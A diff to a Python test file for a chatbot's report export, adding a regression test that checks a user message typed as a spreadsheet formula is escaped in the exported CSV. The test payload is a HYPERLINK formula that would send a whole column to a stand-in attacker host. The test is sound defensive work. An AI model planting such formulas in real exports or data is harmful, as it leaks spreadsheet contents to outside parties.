@@ -7,6 +7,7 @@ import csv
 import os
 import subprocess
 import sys
+from datetime import datetime
 from html.parser import HTMLParser
 from pathlib import Path
 
@@ -17,10 +18,11 @@ from bot.report import build_report
 from bot.stores.events import URL_VARIABLE, open_store
 from tests.conftest import ROOT
 from tests.report.known import PERIOD, SESSIONS
-from tests.support.store_data import open_tracker_store, write_sessions
+from tests.support.store_data import Say, Session, open_tracker_store, write_sessions
 
 SALT = "une clé de pseudonymisation de test"
 PERIOD_ARGS = ("--since", "2026-10-05", "--until", "2026-10-07")
+PERIOD_START = datetime.fromisoformat("2026-10-05T12:00:00+00:00")
 FILES = {
     "synthese.csv",
     "conversations_par_jour.csv",
@@ -202,3 +204,13 @@ def test_a_period_that_ends_before_it_starts_is_refused(sqlite_url: str, tmp_pat
     result = run_report(sqlite_url, tmp_path, "--since", "2026-10-07", "--until", "2026-10-05")
     assert result.returncode == 2
     assert result.stderr == "Erreur : période vide : du 07/10/2026 au 05/10/2026\n"
+
+
+async def test_a_message_written_as_a_formula_stays_text_in_the_spreadsheet(sqlite_url: str, tmp_path: Path) -> None:
+    """Issue 14: a message typed to the bot became a live link in messages_non_compris.csv."""
+    formula = '=HYPERLINK("https://evil.example/?x="&A:A;"cliquez")'
+    sessions = [Session(f"rest:{n}", PERIOD_START, steps=[Say(formula, "nlu_fallback")]) for n in range(2)]
+    await write_sessions(open_tracker_store(sqlite_url), sessions)
+    out = tmp_path / "rapport"
+    assert run_report(sqlite_url, out, *PERIOD_ARGS).returncode == 0
+    assert read_csv(out / "messages_non_compris.csv")[1:] == [["'" + formula, "2"]]
